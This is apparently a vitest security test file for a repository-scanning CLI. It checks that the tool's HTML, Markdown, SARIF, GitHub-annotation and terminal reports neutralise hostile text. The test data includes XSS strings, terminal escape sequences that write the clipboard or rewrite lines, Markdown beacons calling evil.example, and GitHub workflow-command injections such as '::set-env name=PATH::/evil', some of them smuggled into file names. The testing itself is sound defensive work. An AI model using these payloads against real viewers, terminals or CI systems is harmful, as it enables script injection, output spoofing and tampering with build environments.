import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { formats } from '../../src/cli/report-formats.ts'
import { faultText, harmless, jsonText } from '../../src/cli/print.ts'
import type { Discovery, Finding } from '../../src/index.ts'
import { renderAnnotations } from '../../src/report/annotations.ts'
import { renderHtml } from '../../src/report/html/page.ts'
import { renderMarkdown } from '../../src/report/markdown.ts'
import { renderPullRequest } from '../../src/report/pull-request.ts'
import { renderSarif } from '../../src/report/sarif.ts'
import { renderScreen } from '../../src/report/screen.ts'
import { quoteKey } from '../../src/report/words.ts'
import { sample } from '../report/sample.ts'
import { makeRepository, muster } from '../repository.ts'

/** The sample report with one text put into every field of it that can come from a repository. */
const filled = (text: string): Discovery => {
  const kept = new Set([
    'kind',
    'commit',
    'run',
    'id',
    'status',
    'severity',
    'category',
    'confidence',
    'is',
    'v',
    'via',
    'digest',
    'resultDigest',
  ])
  const walk = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return kept.has(key) ? value : text
    if (Array.isArray(value)) return value.map((one) => walk(one, key))
    if (value === null || typeof value !== 'object') return value
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, walk(one, name)]))
  }
  const finding = walk(sample.findings[0], '') as Finding
  const d = walk(sample, '') as Discovery
  return {
    ...d,
    findings: [{ ...finding, id: 'a'.repeat(16), severity: 'critical', status: 'verified' }, ...d.findings],
  }
}

const quotesOf = (text: string): ReadonlyMap<string, string> =>
  new Map([[quoteKey({ file: text, startLine: 31, endLine: 31 }), text]])

const rendered = (text: string): Readonly<Record<string, string>> => {
  const d = filled(text)
  return {
    screen: renderScreen(d, { width: 200, color: false }),
    markdown: renderMarkdown(d, { quotes: quotesOf(text) }),
    html: renderHtml(d, { quotes: quotesOf(text) }),
    sarif: jsonText(renderSarif(d)),
    pr: renderPullRequest(d),
    github: renderAnnotations(d),
  }
}

describe('attack 22: scripts in names and findings', () => {
  const bait = [
    '</script><script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '</style><svg/onload=alert(1)>',
    '</textarea><iframe src=javascript:alert(1)>',
    '<!--<script>',
    'javascript:alert(1)',
    '{{constructor.constructor("alert(1)")()}}',
    '`<b>`',
  ]
  test.each(bait)('%s stays text in the HTML report', (text) => {
    const clean = rendered('word')['html']!
    const page = rendered(text)['html']!
    const first = text.replace(/[`"'].*/, '').slice(0, 12)
    expect(
      page
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&#39;/g, "'"),
    ).toContain(first === '' ? text.replaceAll('`', '').slice(0, 8) : first)
    const tags = (html: string): readonly string[] =>
      [...new Set([...html.matchAll(/<\/?([a-z]+)\b/gi)].map((match) => match[1]!.toLowerCase()))].sort()
    const known = new Set([...tags(clean), 'code', 'p', 'ol', 'li', 'g', 'path', 'rect', 'text'])
    expect(tags(page).filter((name) => !known.has(name))).toEqual([])
    const markup = page.replace(/<(script|style)>[^]*?<\/\1>/g, '').replace(/"[^"]*"/g, '""')
    expect(page.match(/<script/g)).toHaveLength(1)
    expect(markup).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i)
    expect(page).not.toMatch(/(?:href|src)="\s*javascript:/i)
  })

  test('of a real repository, file names and all', { timeout: 60_000 }, async () => {
    const name = 'pkg/<img src=x onerror=alert(1)>.py'
    using repo = makeRepository({
      'pkg/__init__.py': '"""</script><script>alert(2)</script>"""\n',
      [name]: 'from . import gone\n# </pre><script>alert(3)</script>\n',
      'pyproject.toml':
        '[project]\nname = "x"\nversion = "1"\ndescription = "</title><script>alert(4)</script>"\n',
    })
    const ran = await muster(['discover', '--quiet', '--format', 'html', '--state', repo.state], {
      cwd: repo.root,
    })
    expect(ran.code, ran.err).toBe(0)
    expect(ran.out).toContain('&lt;img src=x onerror=alert(1)&gt;.py')
    expect(ran.out.match(/<script/g)).toHaveLength(1)
    expect(ran.out).not.toMatch(/<img|<script>alert/)
  })
})

describe('attack 23: terminal control sequences', () => {
  const esc = '\u001b'
  const bait: readonly (readonly [string, string])[] = [
    ['clipboard (OSC 52)', `a${esc}]52;c;ZXZpbA==\u0007b`],
    ['link (OSC 8)', `a${esc}]8;;https://evil.example${esc}\\text${esc}]8;;${esc}\\b`],
    ['title', `a${esc}]0;owned\u0007b`],
    ['device control', `a${esc}P$q"p${esc}\\b`],
    ['cursor that rewrites the line above', `a${esc}[1A${esc}[2K\rall passed${esc}[0mb`],
    ['one-byte forms', 'a\u009b2Jb\u009d0;x\u009cb\u0090x\u009c'],
    ['a sequence that is never ended', `a${esc}]52;c;`],
    ['backspaces, bell, carriage return, form feed', 'a\b\b\u0007\r\u000cb'],
    ['text that turns around', 'a\u202egnp.exe\u2066b'],
  ]
  const inert = (text: string): void => {
    // oxlint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
  }
  test.each(bait)('%s is written out, in every format and in faults', (_, text) => {
    for (const [format, page] of Object.entries(rendered(text))) {
      expect(page.length, format).toBeGreaterThan(100)
      inert(page)
    }
    inert(harmless(text))
    const fault = faultText([
      { code: 'usage', message: text, hint: text, cause: text, at: { file: text, line: 1 }, retry: 'never' },
    ])
    inert(fault)
    expect(fault).toContain('\\u{')
  })

  test('in colour, the only sequences are our own', () => {
    for (const [, text] of bait) {
      const page = renderScreen(filled(text), { width: 120, color: true })
      expect(page).toContain(`${esc}[1m`)
      // oxlint-disable-next-line no-control-regex
      inert(page.replace(/\u001b\[[\d;]*m/g, ''))
    }
  })

  test(
    'of a real repository: names, docstrings and messages, split over two files and lines',
    { timeout: 90_000 },
    async () => {
      using repo = makeRepository({
        'pkg/__init__.py': `"""a${esc}]52;c;ZXZpbA==\u0007"""\n`,
        [`pkg/x${esc}[2Jy.py`]: `from . import gone_${esc}]0;t\nimport nothing # \u0007\n`,
        [`pkg/half${esc}]52;c;Q.py`]: 'from .half import a\n',
        [`pkg/${esc}[1A.py`]: 'def f(:\n',
        'pyproject.toml': `[project]\nname = "x"\nversion = "1"\ndescription = "\\u001b]0;owned\\u0007"\n`,
        'README.md': `# a${esc}]8;;https://evil.example${esc}\\\n\nsee [x](docs/${esc}[2J.md)\n`,
        '.muster-answers.yaml': `answers: "${esc}]0;x\u0007"\n`,
      })
      const at = { cwd: repo.root }
      const outputs: string[] = []
      for (const args of [
        ['discover'],
        ['report'],
        ['plan'],
        ['team', '--explain'],
        ['report', '--format', 'github'],
        ['discover', '--rev', `no${esc}]0;x\u0007`],
        ['explain', `${esc}[2J`],
        ['verify', `${esc}[2J.json`],
        [`${esc}]0;x\u0007`],
      ]) {
        const ran = await muster([...args, '--state', repo.state], at)
        expect(ran.code).not.toBe(70)
        outputs.push(ran.out + ran.err)
      }
      expect(outputs.join('')).toContain('\\u{1b}')
      for (const text of outputs) inert(text)
      const report = join(repo.root, '..', 'report.json')
      writeFileSync(report, JSON.stringify(filled(`a${esc}]52;c;ZXZpbA==\u0007`)))
      const checked = await muster(['verify', report], at)
      expect(checked.out + checked.err).toContain('\\u{1b}')
      inert(checked.out + checked.err)
    },
  )
})

describe('attack 24: beacons and formulas', () => {
  test.each([
    '![x](https://evil.example/beacon.png?d=1)',
    '[click](javascript:alert(1))',
    '<img src=https://evil.example/b.png>',
    '[x]: https://evil.example/b.png',
    'https://evil.example/auto',
    '@everyone #1',
    '| cell | ![x](https://evil.example/b) |',
  ])('Markdown shows %s and loads nothing', (text) => {
    for (const format of ['markdown', 'pr'] as const) {
      const page = rendered(text)[format]!
      expect(page).toContain(/[a-z]{4,}/.exec(text)![0])
      const outside = page.replace(/^(`{3,})[^]*?^\1$/gm, '').replace(/(`+)(?!`)[^]*?[^`]\1(?!`)/g, '')
      expect(outside).not.toMatch(/(?<!\\)!\[|(?<!\\)\]\((?!#)[^)]*evil|<img|(?<!\\)https?:\/\/evil/i)
    }
  })

  test('there is no CSV and no XML among the formats, so no formula and no `]]>` to escape', () => {
    expect(formats.filter((format) => /csv|xml|junit|tsv|xls/i.test(format))).toEqual([])
    expect(formats.length).toBeGreaterThan(5)
  })

  test('NUL and `]]>` leave SARIF and HTML whole', () => {
    const text = 'a\u0000]]>b'
    const { html, sarif } = rendered(text)
    expect(html).toContain(']]&gt;')
    expect(html!.includes('\u0000')).toBe(false)
    expect(() => JSON.parse(sarif!) as unknown).not.toThrow()
    expect(sarif!.includes('\u0000')).toBe(false)
  })
})

describe('attack 25: workflow commands', () => {
  test.each([
    '::set-env name=PATH::/evil',
    'x\n::add-mask::y',
    'x\r\n::set-output name=a::b',
    'x%0A::stop-commands::z',
    '##[set-env name=A]b',
    '  ::error file=/etc/passwd::x',
    'a,file=/etc/passwd::warning',
    '\u2028::set-env name=A::b',
  ])('%j starts no command and ends none of ours', (text) => {
    const page = renderAnnotations(filled(text))
    const lines = page.split(/\r\n|[\n\r\u2028\u2029\u0085]/)
    expect(page).toMatch(/^::error /m)
    for (const line of lines)
      expect(line).toMatch(
        /^(?:::(?:error|warning|notice) (?:file=[^,:]*(?:,line=\d+,endLine=\d+)?,)?title=[^,:]*::|(?!\s*::|\s*##\[))/,
      )
    for (const line of lines.filter((one) => one.startsWith('::')))
      expect(line.replace(/%25/g, '').replace(/%3A|%2C/g, '')).not.toContain('%0A')
  })

  test('of a real repository', { timeout: 60_000 }, async () => {
    using repo = makeRepository({
      'pkg/__init__.py': '',
      'pkg/a\n::set-env name=X::y.py': 'from . import gone\n',
      '::add-mask::z.py': 'def f(:\n',
      'pyproject.toml': '[project]\nname = "x"\nversion = "1"\n',
    })
    const ran = await muster(['discover', '--quiet', '--format', 'github', '--state', repo.state], {
      cwd: repo.root,
    })
    expect(ran.code, ran.err).toBe(0)
    expect(ran.out).toContain('set-env')
    for (const line of ran.out.split('\n')) expect(line).not.toMatch(/^\s*::(?!error |warning |notice )/)
  })
})
